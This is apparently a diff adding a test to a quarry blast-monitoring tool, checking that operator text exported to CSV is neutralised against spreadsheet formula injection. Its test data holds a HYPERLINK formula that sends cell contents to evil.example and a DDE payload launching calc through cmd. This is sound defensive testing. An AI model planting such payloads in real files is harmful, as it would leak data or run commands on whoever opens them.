@@ -12,6 +12,7 @@ import io
 import json
 import math
 import random
+import re
 import sqlite3
 import subprocess
 import sys
@@ -333,3 +334,40 @@ def test_days_spans_and_mistakes(tmp_path: Path, smtp: tuple[Mailbox, int]) -> N
     ):
         bad = run("--config", str(config), "--site", SITE, *argv, "--out", str(tmp_path), cwd=tmp_path)
         assert bad.returncode == 2 and said in bad.stderr and "Traceback" not in bad.stderr, bad.stderr
+
+
+# Text the operator writes that a spreadsheet would run (CSV injection, CWE-1236): a link that
+# sends the sheet's cells away, a DDE command, and a formula after a tab.
+HOSTILE_ID = '=HYPERLINK("https://evil.example/?"&B2,"B-7")'
+HOSTILE_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+def test_operator_text_in_the_csv_runs_in_no_spreadsheet(tmp_path: Path) -> None:
+    config = generate_month(tmp_path, free_port())
+    store = Store(tmp_path / "store.db")
+    blast = Blast(SITE, HOSTILE_ID, local(date(*MONTH, 13), 16), HOSTILE_REASON, overpressure_db=110.0)
+    with store.batch():
+        store.append_event(blast, json.loads(encode(blast)[1]), local(date(*MONTH, 28)))
+    store.close()
+    made = run(
+        "--config", str(config), "--site", SITE, "--day", "2026-11-13", "--out", str(tmp_path), cwd=tmp_path
+    )
+    assert made.returncode == 0, made.stderr
+    path = tmp_path / "quarry-2026-11-13.csv"
+    rows = list(csv.reader(io.StringIO(path.read_text())))
+    blast_rows = [r for r in rows if r[0] == "blasts"]
+    assert blast_rows and {r[1] for r in blast_rows} == {"'" + HOSTILE_ID}
+    assert blast_rows[1][:4] == ["blasts", "'" + HOSTILE_ID, "safety reason", "'" + HOSTILE_REASON]
+    assert blast_rows[3][2:4] == ["overpressure dB", "110.0"]  # a number stays a number
+    for row in rows:
+        for cell in row:
+            assert cell[:1] not in set("=+-@\t\r\n") or re.fullmatch(r"[+-]?\d+(\.\d*)?", cell), row
+    # The file as written is the file recorded: verify finds it.
+    checked = subprocess.run(
+        [sys.executable, "-m", "monitor.cli", "verify", str(path), "--config", str(config)],
+        cwd=REPO,
+        capture_output=True,
+        text=True,
+        timeout=120,
+    )
+    assert checked.returncode == 0 and checked.stdout.count(": OK: ") == 3, checked.stdout + checked.stderr
